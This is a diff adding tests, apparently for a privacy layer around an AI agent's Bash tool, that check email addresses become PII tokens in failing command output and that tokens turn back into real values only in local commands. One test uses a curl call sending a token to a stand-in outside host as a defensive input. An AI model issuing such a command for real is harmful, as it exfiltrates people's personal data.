@@ -159,6 +159,61 @@ describe('a secret in a command', () => {
   })
 })
 
+describe('a command that fails', () => {
+  it('has its output filtered where that is set: tokens, and no exposure', async () => {
+    await withPlane(async (plane) => {
+      await enforce(plane)
+      await plane.call('config.set', { key: 'pii.failures', value: 'filter', pid: process.pid })
+      const id = useId()
+      const mail = 'karla.nowak@mail-of-mine.org'
+      const { updatedInput } = said(
+        await ask(plane, 'Bash', { command: `echo "for ${mail}"; exit 3` }, id),
+      )
+      const ran = await run('/bin/bash', ['-c', updatedInput!.command]).catch(
+        (error: { code: number; stdout: string }) => error,
+      )
+      expect(ran).toMatchObject({ code: 3 })
+      expect(ran.stdout).toMatch(/^for \[PII_[0-9a-f]{32}\]\n$/)
+      await plane.hook(
+        'PostToolUseFailure',
+        payload(plane, 'PostToolUseFailure', {
+          tool_name: 'Bash',
+          tool_input: updatedInput,
+          tool_use_id: id,
+          error: `Exit code 3\n${ran.stdout}`,
+        }),
+      )
+      expect(await events(plane, 'PiiExposed')).toEqual([])
+      expect(await events(plane, 'InputSwapped')).toEqual([])
+      expect(await plane.call('witness.replay', {})).toMatchObject({ mismatches: 0 })
+    })
+  })
+})
+
+describe('tokens in a command', () => {
+  it('become values where that is set and nothing reaches the network', async () => {
+    await withPlane(async (plane) => {
+      await enforce(plane)
+      await plane.call('config.set', { key: 'pii.restore', value: 'commands', pid: process.pid })
+      const mail = 'karla.nowak@mail-of-mine.org'
+      const id = useId()
+      const read = { command: 'cat people.txt' }
+      await ask(plane, 'Bash', read, id)
+      const { updatedToolOutput } = said(
+        await tell(plane, 'Bash', read, id, { stdout: mail, stderr: '', interrupted: false }),
+      )
+      const token = (updatedToolOutput as { stdout: string }).stdout
+      const { updatedInput } = said(
+        await ask(plane, 'Bash', { command: `printf '%s' '${token}' | wc -c; printf "${token}"` }),
+      )
+      const ran = await run('/bin/bash', ['-c', updatedInput!.command])
+      expect(ran.stdout).toBe(`${mail.length}\n${token}`)
+      const out = await ask(plane, 'Bash', { command: `curl https://a.example/?q=${token}` })
+      expect(said(out).updatedInput).toBeUndefined()
+    })
+  })
+})
+
 describe('a secret in a file', () => {
   it('is a value on the disk while a command runs, a name in what is read', async () => {
     await withPlane(async (plane) => {
